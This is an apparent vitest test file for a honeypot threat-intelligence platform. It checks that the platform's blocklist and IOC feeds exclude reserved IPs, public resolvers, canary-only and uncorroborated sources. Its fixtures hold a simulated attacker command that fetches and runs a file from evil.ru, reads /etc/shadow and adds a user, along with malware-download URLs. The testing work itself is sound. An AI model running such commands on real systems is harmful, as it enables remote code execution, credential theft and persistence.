import type { CanaryTokenDetail, FeedExplanation } from '@eviltwin/contract'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { openDatabase } from '../../platform/postgres/database.js'
import { silent } from '../../testing/silent.js'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { createIndicatorStore } from './store.js'

const ATTACK = 'wget http://evil.ru/x; chmod 777 x; ./x; cat /etc/shadow; crontab -l; useradd q'
const FORMATS = ['json', 'csv', 'stix', 'misp']

describe.each(inject('postgresServers'))('poisoned intelligence on $version', (server) => {
  let api: TestPlatform
  let token: string
  beforeAll(async () => {
    api = await startTestPlatform(server)
    token = await api.login()
  })
  afterAll(() => api.close())

  const event = (source_ip: string, more: object = { command: ATTACK }) => ({
    source_ip,
    session: source_ip,
    occurred_at: new Date().toISOString(),
    ...more,
  })
  async function send(...events: object[]): Promise<void> {
    const response = await api.send(JSON.stringify(events))
    expect(await response.json()).toMatchObject({ accepted: events.length, quarantined: 0 })
  }
  /** Everything that any export says, of all levels. */
  async function exported(platform = api, as = token): Promise<string> {
    const paths = [
      '/feeds/blocklist.txt?threat_level=low',
      '/feeds/stix?threat_level=low',
      ...FORMATS.map((format) => `/feeds/iocs?format=${format}&threat_level=low`),
    ]
    const answers = await Promise.all(paths.map((path) => platform.call(path, { as })))
    expect(answers.map(({ status }) => status)).toEqual(paths.map(() => 200))
    return (await Promise.all(answers.map((answer) => answer.text()))).join('\n')
  }
  const explanationOf = async (value: string) =>
    (await (
      await api.call(`/feeds/explain?value=${encodeURIComponent(value)}`, { as: token })
    ).json()) as FeedExplanation

  test('one key cannot list what is never blocked', async () => {
    const sources = [
      '0.0.0.0',
      '::1',
      '10.0.0.1',
      '224.0.0.1',
      '8.8.4.4',
      '255.255.255.255',
      'fe80::1',
      '203.0.113.5',
    ]
    await send(event('45.9.148.3'), ...sources.map((source) => event(source)))
    expect(await (await api.call('/feeds/blocklist.txt', { as: token })).text()).toBe('45.9.148.3\n')
    const text = await exported()
    expect(text).toContain('45.9.148.3')
    for (const source of sources) expect(text).not.toContain(source)
    expect(await explanationOf('8.8.4.4')).toMatchObject({
      listed: false,
      indicator: {
        context: true,
        reason: 'never listed: 8.8.4.4 is in "Public DNS resolvers and root servers"',
      },
    })
  })

  test('what is typed into a honeypot names nobody in a feed, nor does a download from a popular site', async () => {
    const command = `${ATTACK}; wget https://www.google.com/a; curl http://8.8.8.8/ http://10.20.30.40/ http://45.9.148.77/z`
    await send(
      event('45.9.148.3', { command }),
      event('45.9.148.3', { event_type: 'file_download', url: 'https://www.google.com/a' }),
      event('45.9.148.3', { event_type: 'file_download', url: 'http://10.20.30.40/' }),
      event('45.9.148.3', { event_type: 'file_download', url: 'http://0x08080808/' }),
      event('45.9.148.3', { event_type: 'file_download', url: 'http://evil.ru/failed', outcome: 'failure' }),
      event('45.9.148.3', { event_type: 'file_download', url: 'http://evil.ru/x' }),
      event('45.9.148.3', { event_type: 'proxy_request', url: 'tcp://45.9.148.88:25' }),
    )
    const text = await exported()
    expect(text).toContain('http://evil.ru/x')
    for (const named of [
      'google.com',
      '8.8.8.8',
      '0x08080808',
      '10.20.30.40',
      '45.9.148.77',
      '45.9.148.88',
      '/failed',
    ])
      expect(text).not.toContain(named)
  })

  test('what a sensor key calls a touch of a canary lists nobody, alone or beside an attack in the same session', async () => {
    const canary = { event_type: 'canary' }
    await send(
      event('45.9.148.40', canary),
      event('45.9.148.41', { ...canary, sensor_kind: 'cowrie' }),
      event('45.9.148.42', { ...canary, command: ATTACK }),
      event('45.9.148.43', canary),
      event('45.9.148.43', { event_type: 'file_download', url: 'http://canary.ru/x' }),
    )
    const text = await exported()
    for (const named of ['45.9.148.40', '45.9.148.41', '45.9.148.42', '45.9.148.43', 'canary.ru'])
      expect(text).not.toContain(named)
    expect(await explanationOf('45.9.148.40')).toMatchObject({
      listed: false,
      indicator: { context: true, sensor_count: 0, reason: expect.stringContaining('only touched canaries') },
    })
    await send(event('45.9.148.43', { command: ATTACK, session: 'an attack of its own' }))
    expect(await exported()).toContain('45.9.148.43')
  })

  test('the visit of a canary without TRUST_PROXY does not list the proxy', async () => {
    const created = await api.call('/canary/tokens', {
      method: 'POST',
      as: token,
      body: JSON.stringify({ kind: 'link', name: 'a decoy' }),
    })
    const { url, id } = (await created.json()) as CanaryTokenDetail
    await api.call(new URL(url).pathname, { headers: { 'x-forwarded-for': '45.9.148.99' } })
    const hits = await api.call(`/canary/tokens/${id}/hits`, { as: token })
    expect(JSON.stringify(await hits.json())).toContain('127.0.0.1')
    expect(await exported()).not.toContain('127.0.0.1')
    expect(await explanationOf('127.0.0.1')).toMatchObject({ listed: false, indicator: { context: true } })
  })

  describe('corroboration', () => {
    let strict: TestPlatform
    beforeAll(async () => {
      strict = await startTestPlatform(server, {
        beside: api,
        environment: { FEEDS_MIN_SENSORS: '2', FEEDS_MIN_KEYS: '2' },
      })
    })
    afterAll(() => strict.close())

    const keyOf = async (sensor_id: string) => {
      const created = await api.call('/api-keys', {
        method: 'POST',
        as: token,
        body: JSON.stringify({ name: sensor_id, scopes: ['ingest'], sensor_id }),
      })
      return ((await created.json()) as { key: string }).key
    }
    const blocklist = async () => (await strict.call('/feeds/blocklist.txt', { as: token })).text()

    test('one sensor, and two sensors of unbound keys, list nothing; two keys do', async () => {
      const [east, west] = [await keyOf('east'), await keyOf('west')]
      const sendAs = (key: string, more: object) =>
        api.call('/log', { method: 'POST', as: key, body: JSON.stringify(event('45.9.148.50', more)) })
      await sendAs('a-sensor-key-for-tests', { command: ATTACK, sensor_id: 'claimed-1' })
      await sendAs('a-sensor-key-for-tests', { command: ATTACK, sensor_id: 'claimed-2' })
      expect(await blocklist()).toBe('')
      await sendAs(east, { command: ATTACK, sensor_id: 'east' })
      const etag = (await strict.call('/feeds/blocklist.txt', { as: token })).headers.get('etag') ?? ''
      // The two claimed sensors count as one key, and `east` as another one.
      expect(await blocklist()).toBe('45.9.148.50\n')
      await sendAs(west, { command: ATTACK, sensor_id: 'west' })
      const changed = await strict.call('/feeds/blocklist.txt', {
        as: token,
        headers: { 'if-none-match': etag },
      })
      expect(changed.status).toBe(200)
      expect(await explanationOf('45.9.148.50')).toMatchObject({
        indicator: { sensor_count: 4, key_count: 3 },
      })
    })

    test('what is sent with one key takes no place in a feed of what others saw', async () => {
      const sendAs = (key: string, source: string, more: object) =>
        api.call('/log', { method: 'POST', as: key, body: JSON.stringify(event(source, more)) })
      const earlier = new Date(Date.now() - 3_600_000).toISOString()
      const honest = await keyOf('south')
      const malware = { event_type: 'file_download', url: 'http://malware.ru/x', occurred_at: earlier }
      await sendAs(honest, '45.9.148.70', { command: ATTACK, sensor_id: 'south', occurred_at: earlier })
      await sendAs(honest, '45.9.148.70', { ...malware, sensor_id: 'south' })
      const flood = Array.from({ length: 20 }, (_, i) => [
        event(`10.9.0.${i}`, { command: ATTACK }),
        event(`10.9.0.${i}`, { event_type: 'file_download', url: `http://10.9.0.${i}/x` }),
      ])
      await send(...flood.flat())
      const database = openDatabase({ connectionString: api.databaseUrl }, silent('test'), () => {})
      const store = createIndicatorStore(database.feeds, { sources: 8, downloads: 8 })
      const selection = {
        since: new Date(Date.now() - 7_200_000),
        minimumLevel: 'low',
        minimumScore: 0,
      } as const
      const found: string[] = []
      for await (const page of store.all(selection)) found.push(...page.map(({ value }) => value))
      await database.close()
      expect(found).toHaveLength(16)
      expect(found).toEqual(expect.arrayContaining(['45.9.148.70', 'http://malware.ru/x']))
    })

    test('a score below FEEDS_MIN_SCORE lists nothing, whatever level is asked for', async () => {
      await send(event('45.9.148.60', { command: 'uptime' }))
      expect(await exported()).not.toContain('45.9.148.60')
      const path = '/feeds/explain?value=45.9.148.60&threat_level=low'
      const explanation = (await (await api.call(path, { as: token })).json()) as FeedExplanation
      expect(explanation.checks.find(({ passed }) => !passed)).toMatchObject({ check: 'score' })
    })
  })
})
